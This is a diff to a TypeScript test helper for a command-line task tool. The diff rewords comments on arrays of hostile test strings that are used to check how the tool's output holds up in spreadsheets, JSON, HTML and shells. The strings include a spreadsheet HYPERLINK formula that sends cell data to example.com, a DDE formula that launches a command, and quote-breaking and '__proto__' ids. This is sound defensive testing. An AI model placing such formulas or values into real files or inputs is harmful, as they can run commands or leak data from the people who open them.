@@ -1,6 +1,6 @@
 import { type CliWorkspace, ndjson } from '../support/cli-workspace.ts'
 
-/** Texts that mean something to a spreadsheet, a graph language, JSON, HTML, a shell or a terminal. */
+/** Texts that a spreadsheet, a graph language, JSON, HTML, a shell or a terminal could interpret. */
 export const hostileTexts: ReadonlyArray<string> = [
   '=HYPERLINK("http://example.com/?"&A1,"click")',
   '+1+cmd|"/C calc"!A0',
@@ -37,7 +37,7 @@ export const hostileTexts: ReadonlyArray<string> = [
   '2026-01-31',
 ]
 
-/** Ids that are as bad, as far as ids may be. */
+/** Ids of the same sort, within the rules for ids. */
 const hostileIds = [
   '=1+1',
   '"];',
@@ -58,10 +58,10 @@ const hostileIds = [
 
 const kinds = ['docs', 'c"i\\', '__proto__', '=x']
 
-/** The id of the task with the hostile text of that number. */
+/** The id of the task with the i-th hostile text. */
 export const idAt = (i: number): string => hostileIds[i] ?? `t${i}`
 
-/** Adds a task a hostile text, some of which need others, and lets everything happen to them that can happen. */
+/** Adds one task per hostile text, some with dependencies, and applies every command to them. */
 export const addHostileTasks = async (workspace: CliWorkspace): Promise<void> => {
   const text = (i: number): string => hostileTexts[i] ?? ''
   const tasks = hostileTexts.map((title, i) => ({
